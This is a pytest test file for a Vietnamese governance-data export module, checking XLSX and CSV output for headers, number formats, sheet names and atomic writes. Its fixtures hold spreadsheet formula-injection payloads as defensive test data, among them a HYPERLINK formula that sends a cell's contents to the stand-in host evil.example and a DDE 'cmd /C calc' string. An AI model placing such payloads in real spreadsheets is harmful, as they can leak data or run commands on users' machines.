"""Safe exports: Vietnamese headers, number formats, inert formula-looking text, atomic writes."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from cchc_analysis.errors import InputError
from cchc_analysis.export import (
    DEFAULT_HEADERS_VI,
    export_csv,
    export_xlsx,
    neutralise,
    sanitise_sheet_name,
)

PAPI = Path(__file__).resolve().parents[1] / "data" / "raw" / "papi" / "csv"

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def compare_table() -> pd.DataFrame:
    """A compare()-shaped table with a hostile unit name and a negative change."""
    return pd.DataFrame(
        {
            "unit": ["Hải Hà", '=HYPERLINK("http://evil.example")', "Tiên Yên"],
            "component": ["total", "1.10", "7.2.2"],
            "year": [2021, 2021, 2021],
            "base_year": [2020, 2020, 2020],
            "score": [86.02, 79.5, 88.32],
            "score_base": [87.27, np.nan, 86.5],
            "delta": [-1.25, np.nan, 1.82],
            "rank": pd.array([10, 12, 6], dtype="Int64"),
            "rank_of": [13, 13, 13],
            "rank_change": pd.array([-2, pd.NA, 3], dtype="Int64"),
            "comparable": [True, True, False],
        }
    )


def hostile_table() -> pd.DataFrame:
    return pd.DataFrame({"unit": PAYLOADS, "score": [-2.5, -0.25, 0.0, 1.5, -1e-9, 3.0, 4.0, 5.0, 6.0]})


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


# --------------------------------------------------------------------------- neutralise


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_formula_text(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Hải Hà", "1-2", "86,02%", "a=b", "", " Tiên Yên", "–", "'quoted", "1.10"])
def test_neutralise_leaves_plain_text(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-2.5, -3, 0, None, np.nan, True, pd.NA])
def test_neutralise_leaves_non_text(value):
    assert neutralise(value) is value


def test_sanitise_sheet_name():
    taken: set[str] = set()
    names = [
        sanitise_sheet_name(n, taken)
        for n in [
            "So sánh 2023/2022",
            "Dữ liệu",
            "dữ liệu",
            "[x]:*?\\",
            "Chỉ số cải cách hành chính cấp huyện năm 2021",
            "Chỉ số cải cách hành chính cấp huyện năm 2021",
            "'Bảng'",
            "History",
            "",
        ]
    ]
    assert names[0] == "So sánh 2023_2022"
    assert names[1] == "Dữ liệu" and names[2] == "dữ liệu (2)"
    assert names[3] == "_x_____"
    assert names[4] == "Chỉ số cải cách hành chính cấp h"[:31]
    assert names[5].endswith(" (2)") and len(names[5]) <= 31
    assert names[6] == "Bảng" and names[7] == "History_" and names[8] == "Bảng (2)"
    assert len({n.casefold() for n in names}) == len(names)
    assert all(len(n) <= 31 and not any(ch in n for ch in "[]:*?/\\") for n in names)


# --------------------------------------------------------------------------- xlsx


def test_xlsx_sheets_headers_formats_and_values(tmp_path):
    path = tmp_path / "so_sanh.xlsx"
    out = export_xlsx({"So sánh 2021/2020": compare_table(), "Tấn công": hostile_table()}, path)
    assert out == path
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["So sánh 2021_2020", "Tấn công"]
    ws = wb["So sánh 2021_2020"]
    headers = [c.value for c in ws[1]]
    assert headers[:5] == ["Đơn vị", "Mã tiêu chí", "Năm", "Năm so sánh", "Điểm"]
    assert "Xếp hạng" in headers and "Tăng/giảm (điểm)" in headers
    assert "Thay đổi thứ hạng (bậc)" in headers and "So sánh được" in headers
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    col = {h: i + 1 for i, h in enumerate(headers)}

    def cell(row, header):
        return ws.cell(row=row, column=col[header])

    assert cell(2, "Điểm").value == 86.02 and cell(2, "Điểm").number_format == "0.00"
    assert cell(2, "Tăng/giảm (điểm)").value == -1.25  # a negative number stays a number
    assert cell(2, "Tăng/giảm (điểm)").data_type == "n"
    assert cell(2, "Xếp hạng").value == 10 and cell(2, "Xếp hạng").number_format == "0"
    assert cell(2, "Năm").value == 2021 and cell(2, "Năm").number_format == "0"
    assert cell(3, "Mã tiêu chí").value == "1.10" and cell(3, "Mã tiêu chí").data_type == "s"
    assert cell(3, "Mã tiêu chí").number_format == "@"
    assert cell(4, "Mã tiêu chí").value == "7.2.2"
    assert cell(3, "Điểm năm so sánh").value is None  # NaN → empty cell
    assert cell(3, "Thay đổi thứ hạng (bậc)").value is None
    assert cell(4, "So sánh được").value is False
    assert cell(3, "Đơn vị").value == '\'=HYPERLINK("http://evil.example")'
    assert ws.column_dimensions["A"].width >= len('=HYPERLINK("http://evil.example")')
    assert 8 <= ws.column_dimensions["C"].width <= 60


def test_xlsx_formula_payloads_come_back_as_inert_text(tmp_path):
    path = tmp_path / "tan_cong.xlsx"
    export_xlsx({"Tấn công": hostile_table()}, path)
    ws = openpyxl.load_workbook(path)["Tấn công"]
    for row, payload in enumerate(PAYLOADS, start=2):
        c = ws.cell(row=row, column=1)
        # XML parsing turns a raw CR into LF; the apostrophe in front is what matters.
        assert c.value == "'" + payload.replace("\r", "\n")
        assert c.data_type == "s"
        assert c.quotePrefix
    scores = [ws.cell(row=r, column=2).value for r in range(2, 2 + len(PAYLOADS))]
    assert scores[:2] == [-2.5, -0.25] and scores[4] == -1e-9
    assert all(ws.cell(row=r, column=2).data_type == "n" for r in range(2, 2 + len(PAYLOADS)))
    assert scores == hostile_table()["score"].tolist()
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the file


def test_xlsx_headers_from_data_are_neutralised_and_overridable(tmp_path):
    df = pd.DataFrame({"=cmd|' /C calc'!A0": ["x"], "score": [1.0], "unit": ["Cô Tô"]})
    path = tmp_path / "h.xlsx"
    export_xlsx(
        {"a": df},
        path,
        headers_vi={"score": "Điểm tự chấm"},
        number_formats={"score": "0.0000"},
    )
    ws = openpyxl.load_workbook(path)["a"]
    assert [c.value for c in ws[1]] == ["'=cmd|' /C calc'!A0", "Điểm tự chấm", "Đơn vị"]
    assert ws["B2"].number_format == "0.0000"
    assert "<f>" not in sheet_xml(path)


def test_xlsx_real_papi_panel_round_trips_exactly(tmp_path):
    panel = pd.read_csv(PAPI / "2021.csv")
    path = tmp_path / "papi.xlsx"
    export_xlsx({"PAPI 2021": panel}, path, headers_vi={"Province": "Tỉnh"})
    back = pd.read_excel(path, sheet_name="PAPI 2021", engine="openpyxl")
    assert list(back.columns) == ["Tỉnh", *panel.columns[1:]]
    pd.testing.assert_frame_equal(
        back.drop(columns="Tỉnh"), panel.drop(columns="Province"), check_dtype=False
    )
    empty = back.set_index("Tỉnh").loc["P14"]  # Quảng Ninh has no 2021 data: empty, not 0
    assert empty.isna().all()


def test_xlsx_named_index_and_control_characters(tmp_path):
    df = pd.DataFrame({"score": [1.5, 2.5]}, index=pd.Index(["Hải Hà", "Ba\x0bChẽ"], name="unit"))
    path = tmp_path / "i.xlsx"
    export_xlsx({"x": df}, path)
    ws = openpyxl.load_workbook(path)["x"]
    assert [c.value for c in ws[1]] == ["Đơn vị", "Điểm"]
    assert ws["A3"].value == "BaChẽ"


def test_xlsx_bad_input(tmp_path):
    with pytest.raises(InputError, match=r"\.xlsx"):
        export_xlsx({"a": compare_table()}, tmp_path / "a.xls")
    with pytest.raises(InputError, match="does not exist"):
        export_xlsx({"a": compare_table()}, tmp_path / "missing" / "a.xlsx")
    with pytest.raises(InputError, match="no table"):
        export_xlsx({}, tmp_path / "a.xlsx")
    with pytest.raises(InputError, match="not a table"):
        export_xlsx({"a": [1, 2]}, tmp_path / "a.xlsx")
    with pytest.raises(InputError, match="infinite") as err:
        export_xlsx({"Điểm": pd.DataFrame({"score": [1.0, np.inf]})}, tmp_path / "a.xlsx")
    assert err.value.sheet == "Điểm" and err.value.cell == "A3"
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- atomic writes


class Exploding:
    """A cell value whose text cannot be produced: the export fails part-way."""

    def __str__(self) -> str:
        raise RuntimeError("cell cannot be rendered")


def test_xlsx_failure_leaves_existing_file_untouched(tmp_path):
    path = tmp_path / "bao_cao.xlsx"
    export_xlsx({"a": compare_table()}, path)
    before = path.read_bytes()
    bad = compare_table().astype({"unit": object})
    bad.loc[2, "unit"] = Exploding()
    with pytest.raises(RuntimeError):
        export_xlsx({"a": compare_table(), "b": bad}, path)
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bao_cao.xlsx"]


def test_xlsx_failure_during_save_leaves_no_file(tmp_path, monkeypatch):
    def half_save(self, filename):
        Path(filename).write_bytes(b"PK\x03\x04 half a workbook")
        raise OSError("disk full")

    monkeypatch.setattr(openpyxl.Workbook, "save", half_save)
    path = tmp_path / "moi.xlsx"
    with pytest.raises(OSError, match="disk full"):
        export_xlsx({"a": compare_table()}, path)
    assert list(tmp_path.iterdir()) == []

    path.write_bytes(b"previous report")
    with pytest.raises(OSError, match="disk full"):
        export_xlsx({"a": compare_table()}, path)
    assert path.read_bytes() == b"previous report"
    assert [p.name for p in tmp_path.iterdir()] == ["moi.xlsx"]


def test_written_file_is_readable_by_others(tmp_path):
    path = tmp_path / "r.xlsx"
    export_xlsx({"a": compare_table()}, path)
    umask = os.umask(0)
    os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~umask


# --------------------------------------------------------------------------- csv


def test_csv_bom_vietnamese_and_neutralised(tmp_path):
    path = tmp_path / "so_sanh.csv"
    out = export_csv(hostile_table().assign(note="Hải Hà – Tiên Yên"), path)
    assert out == path
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["unit", "score", "note"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in rows[1:4]] == ["-2.5", "-0.25", "0"]  # numbers stay numbers
    assert rows[1][2] == "Hải Hà – Tiên Yên"
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["score"].tolist() == hostile_table()["score"].tolist()


def test_csv_numbers_without_float_noise(tmp_path):
    """A sum such as 44.295012205999996 is written as the 12 significant digits it means; PAPI's four
    decimals and a commune's 3,321 rank survive exactly."""
    table = pd.DataFrame({"score": [44.295012205999996, 47.8212, 86.02, 0.1 + 0.2], "rank": [3321, 1, 2, 4]})
    path = export_csv(table, tmp_path / "x.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["44.295012206", "47.8212", "86.02", "0.3"]
    assert [r[1] for r in rows[1:]] == ["3321", "1", "2", "4"]


def test_csv_vietnamese_headers_on_request(tmp_path):
    path = tmp_path / "vi.csv"
    export_csv(compare_table(), path, headers_vi=DEFAULT_HEADERS_VI)
    back = pd.read_csv(path, encoding="utf-8-sig", dtype={"Mã tiêu chí": str})
    assert list(back.columns[:3]) == ["Đơn vị", "Mã tiêu chí", "Năm"]
    assert back["Mã tiêu chí"].tolist() == ["total", "1.10", "7.2.2"]
    assert back["Đơn vị"][1] == '\'=HYPERLINK("http://evil.example")'
    assert back["Tăng/giảm (điểm)"][0] == -1.25


def test_csv_failure_leaves_existing_file_untouched(tmp_path, monkeypatch):
    path = tmp_path / "du_lieu.csv"
    export_csv(compare_table(), path)
    before = path.read_bytes()
    bad = compare_table().astype({"unit": object})
    bad.loc[1, "unit"] = Exploding()
    with pytest.raises(RuntimeError):
        export_csv(bad, path)
    assert path.read_bytes() == before

    real_to_csv = pd.DataFrame.to_csv

    def half_to_csv(self, target, **kwargs):
        real_to_csv(self.head(1), target, **kwargs)
        raise OSError("disk full")

    monkeypatch.setattr(pd.DataFrame, "to_csv", half_to_csv)
    with pytest.raises(OSError, match="disk full"):
        export_csv(compare_table(), path)
    assert path.read_bytes() == before
    with pytest.raises(OSError, match="disk full"):
        export_csv(compare_table(), tmp_path / "moi.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["du_lieu.csv"]


def test_csv_bad_input(tmp_path):
    with pytest.raises(InputError):
        export_csv([1, 2], tmp_path / "a.csv")
    with pytest.raises(InputError, match="folder"):
        export_csv(compare_table(), tmp_path)


def test_the_control_characters_removed_are_those_openpyxl_refuses():
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    from cchc_analysis.export import _ILLEGAL

    assert _ILLEGAL.pattern == ILLEGAL_CHARACTERS_RE.pattern
    assert all(bool(_ILLEGAL.match(chr(c))) == bool(ILLEGAL_CHARACTERS_RE.match(chr(c))) for c in range(256))
